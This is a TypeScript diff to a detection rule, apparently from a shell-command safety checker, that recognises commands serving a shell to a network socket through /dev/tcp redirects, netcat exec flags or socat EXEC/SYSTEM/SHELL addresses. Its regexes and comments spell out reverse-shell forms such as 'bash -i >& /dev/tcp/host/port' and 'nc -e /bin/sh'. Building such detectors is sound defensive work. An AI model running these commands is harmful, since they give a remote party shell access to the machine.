@@ -1,6 +1,7 @@
 import type { Redirect } from '../parsing/shell-walk.js';
 import type { ShellSegment } from '../parsing/shell-command.js';
 import { commandName } from '../parsing/command-facts.js';
+import { SHELLS, unwrap } from '../parsing/command-unwrap.js';
 import { commandNames, segmentsRunning } from '../parsing/segment-index.js';
 import { builtInRule } from './built-in-rule.js';
 
@@ -46,17 +47,44 @@ export const unreadableCodeRule = builtInRule({
 
 const SOCKET_TARGET = /^\/dev\/(?:tcp|udp)\//;
 const NETCATS = new Set(['nc', 'ncat', 'netcat']);
-const NETCAT_EXEC = new Set(['-e', '-c', '--exec', '--sh-exec']);
-const SOCAT_EXEC = /^(?:exec|system):/i;
-const runsNetcatExec = (arg: string) => NETCAT_EXEC.has(arg);
-const runsSocatExec = (arg: string) => SOCAT_EXEC.test(arg);
+/** `-e prog`, `-c cmd` alone or last of a cluster (`-le /bin/sh`), ncat's `--exec`, `--sh-exec`, `--lua-exec` (also with `=`). */
+const NETCAT_EXEC = /^-[a-zA-Z]*[ec]$|^--(?:exec|sh-exec|lua-exec)(?:=|$)/;
+/** socat's addresses that run a program: `EXEC:cmd`, `SYSTEM:cmd`, `SHELL[:cmd]` (socat 1.8: a shell itself). */
+const SOCAT_EXEC = /^(?:exec|system):(.*)$|^(shell)(?::(.*))?$/i;
+/** What a served program must be for the peer to get a shell: a shell or an interpreter it can type code into. */
+const SHELL_LIKE = new Set([...SHELLS, 'csh', 'tcsh', 'pwsh', 'powershell', 'cmd', 'cmd.exe', 'lua', 'irb', 'node', 'php', 'perl', 'ruby', 'python', 'python2', 'python3']);
 const toSocket = (redirect: Redirect) => SOCKET_TARGET.test(redirect.target);
+
+/** Whether a command line served to a peer is a shell: its program, after wrappers (`env -u X sh -i`, `exec nice sh`). */
+function isShell(commandLine: string): boolean {
+  const words = commandLine.trim().split(/\s+/).filter(Boolean);
+  if (!words.length) return false;
+  const program = unwrap(words, words.map(() => false), undefined, false).name;
+  return SHELL_LIKE.has(program) || /^(?:python|pypy|perl|ruby|php|lua)[\d.]*$/.test(program);
+}
 
 /** Whether a command (named `cmd`) hands a shell to a socket. Asked of every command of a line: no closure per command. */
 function servesShell(segment: ShellSegment, cmd: string): boolean {
   if (segment.redirects.some(toSocket)) return true;
-  if (NETCATS.has(cmd)) return segment.argv.some(runsNetcatExec);
-  return cmd === 'socat' && segment.argv.some(runsSocatExec);
+  const { argv } = segment;
+  if (NETCATS.has(cmd)) {
+    for (let i = 1; i < argv.length; i++) {
+      const a = argv[i]!;
+      if (!NETCAT_EXEC.test(a)) continue;
+      const served = a.includes('=') ? a.slice(a.indexOf('=') + 1) : argv[i + 1];
+      if (served !== undefined && (a.startsWith('--lua-exec') || isShell(served))) return true;
+    }
+    return false;
+  }
+  if (cmd !== 'socat') return false;
+  for (let i = 1; i < argv.length; i++) {
+    const m = SOCAT_EXEC.exec(argv[i]!);
+    if (!m) continue;
+    if (m[2] !== undefined) return true;
+    // EXEC:'sh -i',pty,stderr: the command is up to the first comma.
+    if (isShell((m[1] ?? '').split(',')[0]!.replace(/^["']|["']$/g, ''))) return true;
+  }
+  return false;
 }
 
 /** `bash -i >& /dev/tcp/host/port`, `nc -e /bin/sh`, `socat exec:sh tcp:…`: a shell served to another machine. */
